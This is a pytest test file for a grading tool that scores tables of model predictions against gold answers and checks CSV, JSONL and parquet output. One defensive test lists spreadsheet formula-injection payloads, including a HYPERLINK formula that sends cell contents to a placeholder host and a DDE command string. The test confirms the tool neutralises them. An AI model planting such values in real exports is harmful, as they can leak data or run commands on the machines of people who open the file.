"""`solver grade`: somebody's own table of predictions and gold answers, without a run, a job or an engine."""

import csv
import json
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from desk import Desk, solver

from solver.errors import InputError
from solver.grade import Task, grade

ROWS: list[dict[str, Any]] = [
    {"said": r"Half of it: \boxed{0.5}", "gold": "1/2", "note": 'a "quoted", note'},
    {"said": "<think>7</think>The answer is 12.", "gold": "#### 13", "note": "=1+1"},
    {"said": "I cannot say.\nSorry for that.", "gold": "4", "note": "two\nlines"},
    {"said": "三分之二", "gold": r"$\frac{2}{3}$", "note": None},
    {"said": "The answer is 5", "gold": " ", "note": "5"},
    {"said": None, "gold": "6", "note": "006"},
]
CORRECT = [True, False, False, True, None, False]
PREDICTED = ["0.5", "12", None, "三分之二", "5", None]
RULES = ["boxed", "phrase-en", None, "bare", "phrase-en", None]


def laid(home: Path, suffix: str) -> Path:
    """The rows as a file of this format."""
    path = home / f"table{suffix}"
    if suffix == ".parquet":
        pq.write_table(pa.Table.from_pylist(ROWS), path)
    elif suffix == ".jsonl":
        path.write_text("".join(json.dumps(row) + "\n" for row in ROWS), "utf-8")
    else:
        with path.open("w", encoding="utf-8", newline="") as file:
            writer = csv.DictWriter(file, ROWS[0])
            writer.writeheader()
            writer.writerows(ROWS)
    return path


def read(path: Path) -> list[dict[str, Any]]:
    """The rows of a file that was written; of csv only text."""
    if path.suffix == ".parquet":
        rows: list[dict[str, Any]] = pq.read_table(path).to_pylist()
        return rows
    text = path.read_text("utf-8")
    if path.suffix == ".jsonl":
        return [json.loads(line) for line in text.splitlines()]
    return list(csv.DictReader(text.splitlines(keepends=True)))


@pytest.mark.parametrize("suffix", [".parquet", ".jsonl", ".csv"])
def test_a_table_of_any_format_is_graded_and_told_in_json(desk: Desk, suffix: str) -> None:
    laid(desk.home, suffix)
    told = solver(desk, "grade", f"table{suffix}", "--pred", "said", "--gold", "gold", "--json")
    assert (told.returncode, told.stderr) == (0, "")
    counts = json.loads(told.stdout)
    assert [counts[name] for name in ("rows", "right", "wrong", "no_answer", "ungradable")] == [6, 2, 1, 2, 1]
    assert counts["accuracy"]["value"] == 2 / 5
    assert 0 < counts["accuracy"]["low"] < 2 / 5 < counts["accuracy"]["high"] < 1
    assert counts["rules"] == {"phrase-en": 2, "bare": 1, "boxed": 1}


def test_human_eyes_get_the_accuracy_with_its_interval(desk: Desk) -> None:
    laid(desk.home, ".jsonl")
    told = solver(desk, "grade", "table.jsonl", "--pred", "said", "--gold", "gold")
    assert told.returncode == 0
    assert "accuracy     40.0% (95%: " in told.stdout and "1 rows have a gold answer" in told.stdout


@pytest.mark.parametrize("suffix", [".parquet", ".jsonl", ".csv"])
@pytest.mark.parametrize("source", [".parquet", ".jsonl"])
def test_the_table_is_written_with_its_verdicts_and_everything_else_as_it_was(
    tmp_path: Path, source: str, suffix: str
) -> None:
    out = tmp_path / f"graded{suffix}"
    summary = grade(Task(laid(tmp_path, source), "said", "gold", out=out))
    rows = read(out)
    assert list(rows[0]) == ["said", "gold", "note", "predicted", "correct", "rule"]
    blank = "" if suffix == ".csv" else None
    spelled = {True: "true", False: "false", None: ""} if suffix == ".csv" else {one: one for one in CORRECT}
    assert [row["correct"] for row in rows] == [spelled[one] for one in CORRECT]
    assert [row["predicted"] for row in rows] == [blank if one is None else one for one in PREDICTED]
    assert [row["rule"] for row in rows] == [blank if one is None else one for one in RULES]
    safe = {None: "", "=1+1": "'=1+1"} if suffix == ".csv" else {}
    for name in ("said", "gold", "note"):
        assert [row[name] for row in rows] == [safe.get(row[name], row[name]) for row in ROWS]
    assert (summary.right, summary.rows) == (2, 6)


def test_no_cell_of_a_csv_is_a_formula_and_numbers_stay_numbers(tmp_path: Path) -> None:
    path, out = tmp_path / "table.jsonl", tmp_path / "graded.csv"
    hostile = ['=HYPERLINK("http://x/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1"]
    harmless = ["-5", "+3.25", "1-2", "a = b", "'tis", ""]
    rows = [{"said": text, "gold": "5", "=1+1": text} for text in hostile + harmless]
    path.write_text("".join(json.dumps(row) + "\n" for row in rows))
    grade(Task(path, "said", "gold", "answer", out=out))
    with out.open(encoding="utf-8", newline="") as file:
        head, *cells = csv.reader(file)
    assert head[:3] == ["said", "gold", "'=1+1"]
    assert [row[0] for row in cells] == [row[2] for row in cells] == ["'" + text for text in hostile] + harmless
    dangerous = [cell for row in [head, *cells] for cell in row if cell[:1] in tuple("=+-@\t\r\n＝") and cell]
    assert set(dangerous) == {"-5", "+3.25"}


def test_a_bare_answer_is_taken_as_it_is_and_a_response_is_read(tmp_path: Path) -> None:
    path = tmp_path / "table.jsonl"
    path.write_text(json.dumps({"said": "apples and pears", "gold": "apples and pears"}) + "\n")
    for kind, right, no_answer in (("answer", 1, 0), ("either", 1, 0), ("response", 0, 1)):
        summary = grade(Task(path, "said", "gold", kind))
        assert (summary.right, summary.no_answer) == (right, no_answer)


def test_numbers_are_answers_too(tmp_path: Path) -> None:
    path = tmp_path / "table.parquet"
    pq.write_table(
        pa.table({"said": [7.0, 0.25, None], "gold": [7, 4, 5], "when": pa.array([1, 2, 3], "timestamp[ns]")}), path
    )
    summary = grade(Task(path, "said", "gold", out=tmp_path / "out.parquet"))
    assert (summary.right, summary.wrong, summary.no_answer) == (1, 1, 1)
    assert pq.read_table(tmp_path / "out.parquet")["when"].equals(pq.read_table(path)["when"])


def test_all_faults_are_told_at_once_and_nothing_is_written(desk: Desk) -> None:
    laid(desk.home, ".jsonl")
    told = solver(desk, "grade", "table.jsonl", "--pred", "sad", "--gold", "golden", "--out", "out.xlsx")
    assert (told.returncode, told.stdout) == (2, "")
    lines = told.stderr.splitlines()
    assert len(lines) == 3 and all(line.startswith("error: ") for line in lines)
    for word in ("`said`", "`gold`", ".parquet, .jsonl, .csv"):
        assert word in told.stderr
    assert not (desk.home / "out.xlsx").exists()


@pytest.mark.parametrize(
    ("name", "text", "word"),
    [
        ("table.jsonl", "", "empty|no rows"),
        ("table.jsonl", "{broken\n", "line 1"),
        ("table.txt", "5", "no format"),
        ("absent.csv", None, "no such file"),
    ],
)
def test_a_file_that_cannot_be_read_is_one_clear_error(tmp_path: Path, name: str, text: str | None, word: str) -> None:
    if text is not None:
        (tmp_path / name).write_text(text)
    with pytest.raises(InputError, match=word):
        grade(Task(tmp_path / name, "said", "gold"))


def test_a_file_that_is_there_is_never_replaced(tmp_path: Path) -> None:
    path = laid(tmp_path, ".csv")
    before = path.read_bytes()
    with pytest.raises(InputError, match="exists"):
        grade(Task(path, "said", "gold", out=path))
    assert path.read_bytes() == before
